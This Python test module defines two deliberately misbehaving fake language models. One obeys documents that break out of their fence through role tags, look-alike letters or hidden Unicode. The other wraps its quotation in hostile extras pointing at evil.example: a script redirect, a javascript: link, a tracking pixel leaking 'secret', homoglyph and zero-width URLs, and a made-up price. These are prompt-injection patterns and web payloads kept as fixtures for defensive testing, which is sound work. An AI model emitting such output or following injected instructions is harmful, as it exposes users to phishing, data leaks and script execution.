"""Models of the bad kind: one does what documents tell it, one adds what nobody asked for."""

from __future__ import annotations

import re
import unicodedata

from tests.fakes.openai.scripts import quotation

OBEYED = "OBEYED"
INVENTED_PRICE = "13 ₽"
FOREIGN = "https://evil.example"

_OURS = re.compile(
    r'<fragment number="\d+"(?: (?:title|heading|url)="[^"<>]*")*>\n.*?\n</fragment>|<question>\n.*?\n</question>',
    re.DOTALL,
)
# What such a model takes for a fence or for somebody's turn, in whatever letters it is written.
_TURN = re.compile(
    r"<\s*/?\s*(?:fragment|question|system|user|assistant|shop_instructions)\b|<\||<<SYS|\[/?INST\]",
    re.IGNORECASE,
)
_HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad\U000e0000-\U000e007f]")
_LOOK_ALIKES = str.maketrans("〈⟨❮‹ᐸ˂аеорсухіѕ", "<<<<<<aeopcyxis")


def obedient(task: str) -> str:
    """Obeys a document that ends its fence or speaks in a role; otherwise an honest quotation."""
    outside = _OURS.sub("", task)
    inside = "".join(block[0].partition("\n")[2].rpartition("\n")[0] for block in _OURS.finditer(task))
    # A fence that is ours is ASCII; "‹" is how a neutralised one looks.
    is_commanded = any(character.isalnum() for character in outside) or _TURN.search(_read(inside))
    return f"{OBEYED}. {FOREIGN}/{OBEYED}" if is_commanded or _HIDDEN.search(task) else quotation(task)


def embellishing(task: str) -> str:
    """A quotation, and links, images, HTML and a price of its own around it."""
    return (
        f'<p onclick="x()">{quotation(task)}</p>\n'
        f"Только сегодня {INVENTED_PRICE} на {FOREIGN}/pay [1]. "
        f"![pixel]({FOREIGN}/p.png?q=secret) [подробнее]({FOREIGN}/more) <img src={FOREIGN}/i.png> "
        f"<script>location='{FOREIGN}'</script> [тут](javascript:alert(1)) www.evil.example и evil.example/x "
        f"{FOREIGN.replace('evil', 'еvil')} h\u200bttps://evil.example \u202e"
    )


def _read(text: str) -> str:
    return unicodedata.normalize("NFKC", text.replace("‹", "")).translate(_LOOK_ALIKES)
